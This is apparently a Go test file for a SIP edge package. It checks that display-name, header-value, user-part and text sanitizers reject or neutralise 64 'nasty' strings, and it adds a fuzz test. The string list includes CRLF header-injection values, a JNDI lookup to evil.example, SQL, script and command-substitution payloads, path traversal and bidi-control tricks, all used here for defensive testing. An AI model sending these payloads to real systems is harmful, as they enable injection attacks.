package edge

import (
	"errors"
	"fmt"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/emiago/sipgo/sip"
)

// nasty are 64 strings that have broken other people's SIP stacks; ok says
// that the text can be represented and has to arrive unchanged.
var nasty = []struct {
	s  string
	ok bool
}{
	{"Alice\r\nVia: SIP/2.0/UDP evil.example", false},
	{"Alice\nX-Evil: 1", false},
	{"Alice\rX-Evil: 1", false},
	{"\r\n", false},
	{"\r\n\r\nv=0", false},
	{"a\r\n b", false},
	{"a\n\tb", false},
	{"\n", false},
	{"\r", false},
	{"Alice\x00", false},
	{"\x00", false},
	{"a\x01b", false},
	{"a\x07b", false},
	{"a\x08b", false},
	{"a\tb", false},
	{"a\x0bb", false},
	{"a\x0cb", false},
	{"a\x1bb[31m", false},
	{"a\x1fb", false},
	{"a\x7fb", false},
	{"a\u0085b", false},
	{"a\u009bb", false},
	{"a\u2028b", false},
	{"a\u2029b", false},
	{"\u202ecilA", false},
	{"\u202aA\u202c", false},
	{"\u202bA", false},
	{"\u202dA", false},
	{"\u2066A\u2069", false},
	{"\u2067A", false},
	{"\u2068A", false},
	{"A\u200e", false},
	{"A\u200f", false},
	{"A\u061c", false},
	{"\xff\xfe", false},
	{"a\xc0\xafb", false},
	{"\xed\xa0\x80", false},
	{"\xc0\x8d\xc0\x8a", false}, // CR LF in overlong form
	{strings.Repeat("A", 10<<10), false},
	{`Alice "Al" Liddell`, true},
	{`"`, true},
	{`""`, true},
	{`\`, true},
	{`\"`, true},
	{`\\"`, true},
	{`Alice\`, true},
	{`Alice" <sip:evil@example.com>;tag=1, "Bob`, true},
	{`<sip:evil@example.com>`, true},
	{`>;tag=evil`, true},
	{`;tag=1;x=<>`, true},
	{`a,b;c:d=e?f&g@h`, true},
	{`%0d%0aX-Evil:%201`, true},
	{`%00`, true},
	{`${jndi:ldap://evil.example/a}`, true},
	{`{{7*7}}`, true},
	{`'; DROP TABLE calls; --`, true},
	{`<script>alert(1)</script>`, true},
	{`$(reboot)`, true},
	{"`reboot`", true},
	{"../../etc/passwd", true},
	{"Zoë Müller", true},
	{"渡辺 直美", true},
	{"👩‍👩‍👧 家", true},
	{"O'Brien-Smith, Jr.", true},
}

// invite puts a display name and a header value into a request and counts the
// header lines that come out.
func invite(t testing.TB, name, value string) (msg *sip.Request, lines int) {
	t.Helper()
	raw := "INVITE sip:+12025550100@carrier.example SIP/2.0\r\nVia: SIP/2.0/UDP 192.0.2.1;branch=z9hG4bK1\r\n" +
		"From: " + name + " <sip:+12025550101@host.example>;tag=1\r\nTo: <sip:+12025550100@carrier.example>\r\n" +
		"Call-ID: 1@host.example\r\nCSeq: 1 INVITE\r\nMax-Forwards: 70\r\nSubject: " + value + "\r\nContent-Length: 0\r\n\r\n"
	parsed, err := sip.ParseMessage([]byte(raw))
	if err != nil {
		t.Fatalf("%q %q: %v", name, value, err)
	}
	return parsed.(*sip.Request), strings.Count(raw, "\r\n")
}

func TestNastyStrings(t *testing.T) {
	if len(nasty) != 64 {
		t.Fatalf("%d strings", len(nasty))
	}
	_, plain := invite(t, `"Alice"`, "hello")
	for _, n := range nasty {
		name, err := SafeDisplayName(n.s)
		if (err == nil) != n.ok {
			t.Errorf("display name %.40q: %v", n.s, err)
			continue
		}
		if (ValidHeaderValue(n.s) == nil) != n.ok {
			t.Errorf("header value %.40q: %v", n.s, ValidHeaderValue(n.s))
		}
		if _, err := SafeUser(n.s); !errors.Is(err, ErrNumber) {
			t.Errorf("user part %.40q accepted", n.s)
		}
		safe := SafeText(n.s, 300)
		if err := ValidHeaderValue(safe); err != nil || len(safe) > 300 {
			t.Errorf("SafeText(%.40q) = %q: %v", n.s, safe, err)
		}
		if n.ok && safe != n.s {
			t.Errorf("SafeText(%.40q) = %q", n.s, safe)
		}
		if !n.ok {
			continue
		}
		req, lines := invite(t, name, safe)
		if lines != plain {
			t.Errorf("%.40q made %d lines of %d", n.s, lines, plain)
		}
		// What the callee's parser makes of it is one From with our URI and tag.
		if tag, _ := req.From().Params.Get("tag"); tag != "1" || req.From().Address.User != "+12025550101" {
			t.Errorf("%.40q changed the From header to %s", n.s, req.From().Value())
		}
		if got := unquote(req.From().DisplayName); got != n.s {
			t.Errorf("%.40q arrived as %q", n.s, got)
		}
	}
}

// unquote undoes the escapes inside a quoted string.
func unquote(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if s[i] == '\\' && i+1 < len(s) {
			i++
		}
		b.WriteByte(s[i])
	}
	return b.String()
}

func TestSafeUser(t *testing.T) {
	for in, ok := range map[string]bool{
		"+12025550100": true, "12025550100": true, "911": true, "+123456789012345": true, "0": true,
		"": false, "+": false, "++1": false, "+1234567890123456": false, "+1 202 555 0100": false, "+1-202": false,
		"1;ext=5": false, "1@evil.example": false, "1\r\n": false, "١٢٣": false, "1%0d": false, "*67": false, "1+2": false, "1,2": false,
	} {
		got, err := SafeUser(in)
		if (err == nil) != ok || ok && got != in {
			t.Errorf("%q: %q %v", in, got, err)
		}
	}
}

func TestSafeTextCutsAtCharacters(t *testing.T) {
	for in, want := range map[string]string{"Zoë": "Zo", "abcd": "abc", " a ": "a", "a\r\nb": "a"} {
		if got := SafeText(in, 3); got != want {
			t.Errorf("SafeText(%q, 3) = %q, want %q", in, got, want)
		}
	}
	if SafeText("abc", -1) != "" || len(SafeText(strings.Repeat("x", 5000), 1<<20)) != MaxHeaderValue {
		t.Error("limits")
	}
}

// No text, whatever it is, adds a line to a message or changes who calls.
func FuzzSafeText(f *testing.F) {
	for _, n := range nasty {
		f.Add(n.s)
	}
	_, plain := invite(f, `"Alice"`, "hello")
	f.Fuzz(func(t *testing.T, s string) {
		text := SafeText(s, 100)
		if err := ValidHeaderValue(text); err != nil || len(text) > 100 || !utf8.ValidString(text) {
			t.Fatalf("SafeText(%q) = %q: %v", s, text, err)
		}
		name, err := SafeDisplayName(s)
		if err != nil {
			name = `"refused"`
			s = "refused"
		}
		if user, err := SafeUser(s); err == nil && strings.Trim(user, "+0123456789") != "" {
			t.Fatalf("user part %q", user)
		}
		req, lines := invite(t, name, text)
		if lines != plain {
			t.Fatalf("%q made %d lines of %d", s, lines, plain)
		}
		if tag, _ := req.From().Params.Get("tag"); tag != "1" || req.From().Address.User != "+12025550101" {
			t.Fatalf("%q changed the From header to %s", s, req.From().Value())
		}
		if fmt.Sprint(unquote(req.From().DisplayName)) != s {
			t.Fatalf("%q arrived as %q", s, req.From().DisplayName)
		}
	})
}
